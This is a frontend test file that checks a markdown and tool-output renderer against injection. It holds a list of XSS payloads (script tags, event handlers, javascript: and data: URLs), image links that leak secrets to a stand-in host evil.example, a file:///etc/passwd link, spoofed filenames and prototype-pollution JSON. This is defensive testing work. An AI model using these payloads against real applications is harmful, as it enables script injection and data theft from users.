import { expect, test } from 'vitest'
import type { JsonValue } from '../api/json.ts'
import { stage } from '../testing/output-stage.tsx'
import { violations } from '../testing/violations.ts'
import { Markdown } from './text/markdown.tsx'
import { OutputView } from './output-view.tsx'

/** Payloads that try to run something here, or to fetch something. */
const hostile = [
  '<script>window.hostileRan = 1</script>',
  '<img src=x onerror="window.hostileRan = 1">',
  '<svg onload="window.hostileRan = 1"><use href="https://evil.example/x.svg#a"/></svg>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<link rel="stylesheet" href="https://evil.example/s.css"><style>@import "https://evil.example/i.css"</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=a><button>x</button></form>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
  '<video src="https://evil.example/v" autoplay></video><audio src="https://evil.example/a" autoplay></audio>',
  '<base href="https://evil.example/">',
  '![secret](https://evil.example/leak.png?key=SECRET)',
  '![relative](/api/v1/me)',
  '![host only](//evil.example/a.png)',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3Jhbj0xIi8+)',
  '![html](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)',
  '[![linked image](https://evil.example/i.png)](javascript:window.hostileRan=1)',
  '[click](javascript:window.hostileRan=1)',
  '[click](JaVaScRiPt:window.hostileRan=1)',
  '[click](java\nscript:window.hostileRan=1)',
  '[click](&#106;avascript:window.hostileRan=1)',
  '[click](data:text/html,<script>window.hostileRan=1</script>)',
  '[click](vbscript:x)',
  '[click](file:///etc/passwd)',
  '[click](blob:https://evil.example/1)',
  '[https://bank.example](https://evil.example/login)',
  '[ref]: javascript:window.hostileRan=1\n\n[ref]',
  '<javascript:window.hostileRan=1>',
  '[^1]\n\n[^1]: <img src=x onerror="window.hostileRan=1">',
  '| a |\n|---|\n| <img src=x onerror="window.hostileRan=1"> |',
  '```html\n<script>window.hostileRan = 1</script>\n```',
  'invoice\u202Egpj.exe and pay\u200Bpal',
  '> '.repeat(3000) + 'deep',
  '* '.repeat(300) + 'deep',
  '['.repeat(5000),
  '`'.repeat(5000),
]

const ran = () => (window as unknown as { hostileRan?: number }).hostileRan
const remote = () =>
  performance.getEntriesByType('resource').filter(({ name }) => name.includes('evil.example'))

function checkClean(stage: Element): void {
  // The styles of the theme are on the page as well.
  const container = stage.querySelector('main') ?? stage
  expect(ran()).toBeUndefined()
  const dangerous =
    'script, iframe, object, embed, link, style, meta, form, video, base, foreignObject'
  expect(container.querySelector(dangerous)?.outerHTML).toBeUndefined()
  for (const element of container.querySelectorAll('*')) {
    const handlers = element
      .getAttributeNames()
      .filter((name) => name.startsWith('on') || name === 'ping')
    expect(handlers).toEqual([])
  }
  for (const image of container.querySelectorAll('img')) {
    expect(image.getAttribute('src')).toMatch(/^data:image\//)
  }
  for (const link of container.querySelectorAll('a')) {
    expect(link.protocol).toMatch(/^(?:https?|mailto):$/)
    expect(link.rel).toContain('noreferrer')
    expect(link.title).toBe(link.getAttribute('href'))
  }
  expect(remote()).toEqual([])
}

test.each(hostile.map((text) => [text.slice(0, 60), text] as const))(
  'markdown %j runs nothing and fetches nothing',
  async (_, text) => {
    const screen = await stage(<Markdown text={`begin\n\n${text}\n\nend-of-text`} />)
    await expect.element(screen.getByText(/end-of-text/).first()).toBeInTheDocument()
    // Both as plain text while the library loads and as drawn.
    await new Promise((resolve) => setTimeout(resolve, 50))
    checkClean(screen.container)
  },
)

test('half a text, as it streams, runs nothing and fetches nothing at any point', async () => {
  const text = hostile.slice(0, 30).join('\n\n')
  const screen = await stage(<Markdown text="" isStreaming />)
  for (let end = 0; end < text.length; end += 37) {
    await screen.change(<Markdown text={text.slice(0, end)} isStreaming />)
  }
  checkClean(screen.container)
})

test('a remote picture becomes its text and address, and a link shows its target', async () => {
  const text =
    '![secret](https://evil.example/leak.png?key=1)\n\n[https://bank.example](https://evil.example/login)'
  const screen = await stage(<Markdown text={text} />)
  await expect
    .element(screen.getByText('secret (https://evil.example/leak.png?key=1)'))
    .toBeVisible()
  await expect.element(screen.getByText('(evil.example)')).toBeVisible()
})

test('the same as values, keys, cells and rich content runs nothing and fetches nothing', async () => {
  const value = {
    fields: Object.fromEntries(
      hostile.map((text, index) => [`${index}${text.slice(0, 80)}`, text]),
    ),
    rows: hostile.map((text) => ({
      [hostile[0] ?? '']: text,
      link: 'javascript:window.hostileRan=1',
    })),
    single: 'javascript:window.hostileRan=1',
    svg: '<svg onload="window.hostileRan=1"></svg>',
    picture: 'https://evil.example/a.png',
    ...(JSON.parse('{"__proto__": {"polluted": true}, "constructor": "x"}') as Record<
      string,
      JsonValue
    >),
  } as JsonValue
  const sections = ['single', 'picture', 'svg'].map((key) => ({ key, label: key, type: 'image' }))
  const screen = await stage(<OutputView value={value} tool={{ sections }} />)
  await expect.element(screen.getByText('View', { exact: true })).toBeVisible()
  checkClean(screen.container)
  expect(({} as { polluted?: boolean }).polluted).toBeUndefined()
  await screen.getByText('JSON', { exact: true }).click()
  await expect.element(screen.getByRole('tree')).toBeVisible()
  checkClean(screen.container)
  expect(await violations(screen.container)).toEqual([])
})

test('rich content is no way around: HTML, SVG and remote addresses stay text', async () => {
  const blocks = hostile.flatMap((text) => [
    { type: 'text', text },
    { type: 'resource', resource: { uri: text, mimeType: 'text/html', text } },
    {
      type: 'resource',
      resource: { uri: 'javascript:window.hostileRan=1', mimeType: 'text/markdown', text },
    },
    { type: 'resource_link', uri: 'javascript:window.hostileRan=1', name: text, description: text },
  ])
  const svg = {
    type: 'image',
    data: btoa('<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hostileRan=1"/>'),
    mimeType: 'image/svg+xml',
  }
  const screen = await stage(<OutputView value={{ $content: [svg, ...blocks] } as JsonValue} />)
  await expect.element(screen.getByText(/more are in the JSON/)).toBeVisible()
  await new Promise((resolve) => setTimeout(resolve, 300))
  checkClean(screen.container)
})
